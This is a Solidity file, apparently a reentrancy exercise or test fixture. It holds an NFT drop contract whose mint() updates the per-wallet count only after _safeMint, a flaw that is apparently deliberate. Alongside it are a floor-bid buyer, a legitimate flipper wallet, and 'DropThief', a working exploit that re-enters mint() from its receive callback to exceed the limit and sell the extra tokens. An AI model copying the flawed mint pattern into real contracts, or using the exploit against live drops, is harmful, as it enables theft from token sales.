// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import {IERC721Receiver} from "@openzeppelin/contracts/token/ERC721/IERC721Receiver.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// A drop: two a wallet at a token price. Whoever has got enough is noted after the mint.
contract NftDrop is ERC721, Ownable {
    uint256 public constant PRICE = 0.05 ether;
    uint256 public constant LIMIT = 2;
    uint256 public constant SUPPLY = 400;
    uint256 public totalSupply;
    mapping(address => uint256) public mintedBy;
    address[] private minters;

    constructor() ERC721("Angry Bears", "BEAR") Ownable(msg.sender) {}

    function mint(uint256 count) external payable {
        require(msg.value == count * PRICE, "wrong price");
        require(mintedBy[msg.sender] + count <= LIMIT, "limit");
        require(totalSupply + count <= SUPPLY, "sold out");
        for (uint256 i = 0; i < count; i++) _safeMint(msg.sender, ++totalSupply);
        if (mintedBy[msg.sender] == 0) minters.push(msg.sender);
        mintedBy[msg.sender] += count;
    }

    function withdraw() external onlyOwner {
        (bool ok,) = owner().call{value: address(this).balance}("");
        require(ok, "not paid");
    }

    /// How many wallets got more than two.
    function overLimit() external view returns (uint256 count) {
        for (uint256 i = 0; i < minters.length; i++) if (mintedBy[minters[i]] > LIMIT) count++;
    }
}

/// Buys any of a collection for a fixed bid, as long as its coins last.
contract FloorBids {
    ERC721 public immutable collection;
    uint256 public immutable bid;
    address private immutable bidder;

    event Accepted(address indexed seller, uint256 indexed id, uint256 price);

    constructor(ERC721 collection_, uint256 bid_) payable {
        (collection, bid, bidder) = (collection_, bid_, msg.sender);
    }

    receive() external payable {}

    function accept(uint256 id) external {
        collection.transferFrom(msg.sender, bidder, id);
        (bool ok,) = msg.sender.call{value: bid}("");
        require(ok, "not paid");
        emit Accepted(msg.sender, id, bid);
    }
}

contract DropThief is IERC721Receiver {
    NftDrop private drop;
    uint256 private left;
    uint256[] private got;

    function run(NftDrop drop_, FloorBids bids, uint256 rounds, address payable payee) external payable {
        (drop, left) = (drop_, rounds - 1);
        delete got;
        drop_.mint{value: 2 * drop_.PRICE()}(2);
        drop_.setApprovalForAll(address(bids), true);
        for (uint256 i = 0; i < got.length; i++) bids.accept(got[i]);
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    function onERC721Received(address, address, uint256 id, bytes calldata) external returns (bytes4) {
        got.push(id);
        if (left > 0 && got.length % 2 == 0) {
            left--;
            drop.mint{value: 2 * drop.PRICE()}(2);
        }
        return IERC721Receiver.onERC721Received.selector;
    }

    receive() external payable {}
}

/// A wallet in code, for one collector each, that mints its two and passes them on the moment they arrive: the second
/// to whoever bids for the floor.
contract DropFlipper is IERC721Receiver {
    NftDrop private immutable drop;
    FloorBids private immutable bids;
    address private immutable owner = msg.sender;
    uint256 private seen;

    constructor(NftDrop drop_, FloorBids bids_) {
        (drop, bids) = (drop_, bids_);
    }

    function go() external payable {
        drop.mint{value: msg.value}(2);
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "not paid");
    }

    function onERC721Received(address, address, uint256 id, bytes calldata) external returns (bytes4) {
        if (seen++ == 0) {
            drop.safeTransferFrom(address(this), owner, id);
        } else {
            drop.approve(address(bids), id);
            bids.accept(id);
        }
        return IERC721Receiver.onERC721Received.selector;
    }

    receive() external payable {}
}
